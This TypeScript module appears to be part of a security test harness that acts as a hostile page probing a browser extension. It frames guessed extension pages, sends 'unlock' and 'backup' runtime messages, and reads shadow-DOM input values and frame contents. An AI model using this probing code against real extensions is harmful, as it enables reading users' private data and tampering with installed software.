import { attempt, learn, strangers } from './attack-tools.ts';

const PAGES = [
  'panel.html',
  'overview.html',
  'options.html',
  'manifest.json',
  'background.js',
  'content-scripts/lvs.js',
];
const tried = new Set<string>();

function readInside(how: string, frame: HTMLIFrameElement): void {
  learn(
    `${how} document`,
    attempt(() => frame.contentDocument?.documentElement.outerHTML ?? 'null'),
  );
  learn(
    `${how} window`,
    attempt(() => frame.contentWindow?.location.href),
  );
  learn(
    `${how} text`,
    attempt(() => frame.contentWindow?.document.body.innerText),
  );
}

/** Frames an address by itself, in the clear and sandboxed, asks it things and reads what comes back. */
function frameIt(url: string): void {
  if (tried.has(url) || tried.size > 40) return;
  tried.add(url);
  learn('found address', url);
  void fetch(url).then(
    async (response) => learn('fetched', url, await response.text()),
    () => learn('fetch refused', url),
  );
  for (const sandbox of [null, 'allow-scripts', 'allow-scripts allow-same-origin']) {
    const frame = document.createElement('iframe');
    frame.setAttribute('data-eigen', '');
    if (sandbox !== null) frame.setAttribute('sandbox', sandbox);
    frame.src = url;
    frame.addEventListener('load', () => {
      for (const type of ['hello', 'pair', 'view', 'connect', 'refresh']) {
        const channel = new MessageChannel();
        channel.port1.onmessage = ({ data }) => learn('framed port', data);
        frame.contentWindow?.postMessage({ type, kantlijn: true }, '*', [channel.port2]);
      }
      setTimeout(() => readInside('framed', frame), 400);
    });
    document.body.append(frame);
  }
}

function askExtension(id: string): void {
  const runtime = Reflect.get(Reflect.get(window, 'chrome') ?? {}, 'runtime') as
    | {
        sendMessage?(id: string, message: unknown, done: (answer: unknown) => void): void;
        connect?(id: string): unknown;
      }
    | undefined;
  if (!runtime) return;
  for (const type of ['read-pupil', 'progress', 'settings', 'unlock', 'backup']) {
    attempt(() => runtime.sendMessage?.(id, { type }, (answer) => learn('runtime answer', answer)));
  }
  attempt(() => learn('runtime port', runtime.connect?.(id)));
}

function look(): void {
  for (const element of strangers()) {
    learn('stranger', element.outerHTML, getComputedStyle(element).cssText.slice(0, 300));
    const shadow = element.shadowRoot;
    learn('shadow', shadow?.innerHTML ?? 'closed');
    for (const field of shadow?.querySelectorAll('input, textarea') ?? []) {
      learn('shadow field', 'value' in field ? field.value : '');
    }
    for (const frame of (shadow ?? element).querySelectorAll('iframe')) {
      readInside('their frame', frame);
      if (frame.src) frameIt(frame.src);
    }
  }
  for (let at = 0; at < frames.length; at += 1) {
    learn(
      'window',
      attempt(() => frames[at]?.location.href),
      attempt(() => frames[at]?.document.body.innerText),
    );
  }
  for (const { name } of performance.getEntriesByType('resource'))
    if (name.includes('extension:')) frameIt(name);
}

/** Reads every stranger again and again, and frames each address found or guessed. */
export function frameAll(): void {
  const id = document.documentElement.dataset.uitbreiding ?? '';
  if (id) {
    for (const page of PAGES) frameIt(`chrome-extension://${id}/${page}`);
    askExtension(id);
  }
  addEventListener('message', (event) => {
    if (!(event instanceof MessageEvent)) return;
    const { data, origin, ports } = event;
    learn('message', origin, data, ports.length);
    for (const port of ports) port.onmessage = (event) => learn('port', event.data);
  });
  let left = 60;
  const timer = setInterval(() => {
    look();
    left -= 1;
    if (left === 0) clearInterval(timer);
  }, 250);
}
